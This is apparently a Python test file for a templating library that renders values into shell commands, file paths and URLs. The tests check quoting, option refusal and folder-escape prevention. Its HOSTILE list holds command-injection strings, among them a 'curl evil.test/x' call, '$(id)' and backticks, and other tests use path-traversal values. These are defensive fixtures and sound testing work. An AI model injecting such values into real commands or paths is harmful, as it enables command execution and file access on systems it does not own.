"""Filling in: values keep their type, text is never read again, hostile values stay one word."""

import shlex
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kata.json import same
from kata.spec import Array, Concat, Const, Input, Item, Join, Record, Ref, ShellWord, Step
from kata.templating import MissingValueError, RefusedValueError, Scope, TemplateError, render, render_step
from kata.templating.shell import quote, unquote

HOSTILE = [
    "main; curl evil.test/x",
    "$(id)",
    "it's",
    "a b",
    "`id`",
    "a\nb",
    'a"b',
    "$'x'",
    "*",
    "~",
    "a&&b",
    "\\",
    "ä b",
]

values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
    max_leaves=6,
)


@given(values)
def test_a_constant_is_what_it_is(value):
    assert same(render(Const(value), Scope()), value)


@given(values)
def test_a_reference_keeps_the_type_of_its_value(value):
    assert same(render(Ref(1, ("a", 0)), Scope(results={1: {"a": [value]}})), value)


def test_marks_inside_a_constant_are_plain_text():
    """Case B039."""
    text = "awk '{print $1}' f; echo ${HOME} {pattern} {{x}} <step 1.path> %s «step 1»"
    parts = Concat((Const(text), Input("pattern")))
    assert render(parts, Scope(inputs={"pattern": "{x}"})) == text + "{x}"


@given(st.sampled_from(HOSTILE) | st.text(min_size=1))
def test_a_hostile_value_stays_one_shell_word(value):
    """Case B027."""
    if "\x00" in value or value.startswith("-"):
        return
    command = render(
        Concat((Const("echo "), ShellWord(Input("x")), Const(" end"))), Scope(inputs={"x": value})
    )
    assert shlex.split(command) == ["echo", value, "end"]


@pytest.mark.parametrize(("mark", "quoting"), [("", "bare"), ("'", "single"), ('"', "double")])
def test_a_real_shell_reads_back_every_hostile_value(mark, quoting):
    parts = [Const("printf '%s\\0'")]
    for number in range(len(HOSTILE)):
        parts += [Const(f" {mark}"), ShellWord(Input(str(number)), quoting), Const(mark)]
    inputs = {str(number): value for number, value in enumerate(HOSTILE)}
    command = render(Concat(tuple(parts)), Scope(inputs=inputs))
    done = subprocess.run(["sh", "-c", command], capture_output=True, check=True, timeout=20)
    assert done.stdout.decode().split("\0")[:-1] == HOSTILE


@given(
    st.text(st.characters(exclude_characters="\x00"), min_size=1),
    st.sampled_from(["bare", "single", "double"]),
)
def test_unquoting_is_the_inverse_of_quoting(value, quoting):
    assert unquote(quote(value, quoting), quoting) == value


@pytest.mark.parametrize("value", ["--force", "-", "-rf"])
@pytest.mark.parametrize("before", ["rm ", "rm '", "ls; rm\t"])
def test_a_value_must_not_become_an_option(before, value):
    quoting = "single" if before.endswith("'") else "bare"
    with pytest.raises(RefusedValueError, match="option"):
        render(Concat((Const(before), ShellWord(Input("x"), quoting))), Scope(inputs={"x": value}))


def test_a_dash_is_harmless_inside_a_word_and_where_one_was_recorded():
    scope = Scope(inputs={"x": "-x"})
    assert render(Concat((Const("a --to="), ShellWord(Input("x")))), scope) == "a --to=-x"
    assert render(Concat((Const("a "), ShellWord(Input("x"), "option"))), scope) == "a -x"
    assert render(Concat((Const("echo 'a "), ShellWord(Input("x"), "single"))), scope) == "echo 'a -x"


def test_no_command_line_carries_a_nul():
    with pytest.raises(RefusedValueError, match="NUL"):
        render(ShellWord(Input("x")), Scope(inputs={"x": "a\x00b"}))


def test_the_elements_of_a_joined_list_are_one_word_each():
    expression = Concat((Const("git add "), Join(ShellWord(Ref(1, ("files",))), " ")))
    assert render(expression, Scope(results={1: {"files": ["a b", "c;d"]}})) == "git add 'a b' 'c;d'"


def test_an_element_is_seen_by_the_body_of_a_loop():
    assert render(Item(("id",)), Scope(element={"id": 7})) == 7


def test_numbers_in_a_text_are_written_as_json_writes_them():
    parts = Concat((Const("n="), Ref(1), Const(";")))
    assert render(parts, Scope(results={1: 1.0})) == "n=1.0;"


def test_a_step_is_rendered_to_its_arguments():
    args = Record((("path", Input("p")), ("list", Array((Const(1), Ref(1))))))
    step = Step(tool="t", args=args, effect="read")
    assert render_step(step, Scope(inputs={"p": "x"}, results={1: None})) == {"path": "x", "list": [1, None]}


@pytest.mark.parametrize(
    "expression", [Input("gone"), Ref(2), Ref(1, ("gone",)), Ref(1, ("a", 3)), Item(("x",))]
)
def test_what_is_not_there_is_named(expression):
    with pytest.raises(MissingValueError):
        render(expression, Scope(results={1: {"a": [1]}}))


def test_an_object_has_no_place_in_a_text():
    with pytest.raises(TemplateError):
        render(Concat((Const("x"), Ref(1))), Scope(results={1: {}}))


FOLDERS = [
    Concat((Const("tasks/"), Input("x"), Const(".md"))),
    Concat((Const("tasks/note-"), Input("x"))),
    Concat((Const("rm -r tasks/"), ShellWord(Input("x"), "bare"))),
    Concat((Const("rm -r 'my tasks/"), ShellWord(Input("x"), "single"), Const("'"))),
    Concat((Const("https://api.example.test/v1/users/"), Input("x"))),
    Concat((Const("C:\\tasks\\"), Input("x"))),
]


@pytest.mark.parametrize("template", FOLDERS)
@pytest.mark.parametrize("value", ["../../escaped", "..", "a/../../b", "/../x", "..\\x", "a\\..\\..\\b"])
def test_a_value_does_not_lead_out_of_the_folder_before_it(template, value):
    with pytest.raises(RefusedValueError, match="leave the folder"):
        render(template, Scope(inputs={"x": value}))


@pytest.mark.parametrize("template", FOLDERS)
@pytest.mark.parametrize("value", ["a", "a/b", "a..b", "...", "v1..v2", ".hidden"])
def test_a_value_inside_the_folder_is_as_good_as_any(template, value):
    assert value in render(template, Scope(inputs={"x": value}))


@pytest.mark.parametrize(
    "template",
    [Input("x"), Concat((Input("x"), Const("/a.md"))), Concat((Const("see a/b, not "), Input("x")))],
)
def test_a_path_that_begins_with_a_value_may_lead_anywhere(template):
    assert ".." in str(render(template, Scope(inputs={"x": "../a"})))
